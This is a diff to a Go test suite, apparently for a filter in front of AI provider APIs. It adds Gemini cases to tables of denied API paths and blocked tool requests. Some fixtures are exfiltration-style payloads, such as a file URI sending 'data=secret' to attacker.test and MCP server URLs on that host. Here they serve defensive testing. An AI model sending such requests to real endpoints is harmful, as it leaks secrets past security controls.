@@ -27,6 +27,8 @@ func (a *agents) deniedPaths(t *testing.T) {
 		{"openai key in query", "'https://api.openai.com/v1/models?key=sk-own'", "", `"type":"permission_error"`},
 		{"anthropic files", "https://api.anthropic.com/v1/files", "", `"type":"error"`},
 		{"anthropic batches", "https://api.anthropic.com/v1/messages/batches", jsonHeader + "-d '{}'", `"type":"error"`},
+		{"gemini files", "https://generativelanguage.googleapis.com/v1beta/files", "", `"status":"PERMISSION_DENIED"`},
+		{"gemini cache", "'https://generativelanguage.googleapis.com/v1beta/cachedContents?key=own'", jsonHeader + "-d '{}'", `"status":"PERMISSION_DENIED"`},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			a.double.Reset()
@@ -69,6 +71,9 @@ tools:
 		{"openai remote MCP", "mcp", "https://api.openai.com/v1/responses", `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"a","server_url":"https://attacker.test/"}]}`},
 		{"openai code", "code_interpreter", "https://api.openai.com/v1/responses", `{"model":"m","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`},
 		{"openai image URL", "image_url", "https://api.openai.com/v1/chat/completions", `{"model":"m",` + fmt.Sprintf(image, "image_url", "image_url", "") + `}`},
+		{"gemini search", "web_search", "https://generativelanguage.googleapis.com/v1beta/models/m:generateContent", `{"contents":[],"tools":[{"google_search":{}}]}`},
+		{"gemini code", "code_execution", "https://generativelanguage.googleapis.com/v1beta/models/m:generateContent", `{"contents":[],"tools":[{"codeExecution":{}}]}`},
+		{"gemini file URI", "file_url", "https://generativelanguage.googleapis.com/v1beta/models/m:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.test/?data=secret"}}]}]}`},
 		{"anthropic search", "web_search", "https://api.anthropic.com/v1/messages", `{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}`},
 		{"anthropic fetch", "web_fetch", "https://api.anthropic.com/v1/messages", `{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
 		{"anthropic MCP", "mcp", "https://api.anthropic.com/v1/messages", `{"model":"m","max_tokens":9,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.test/","name":"x"}]}`},
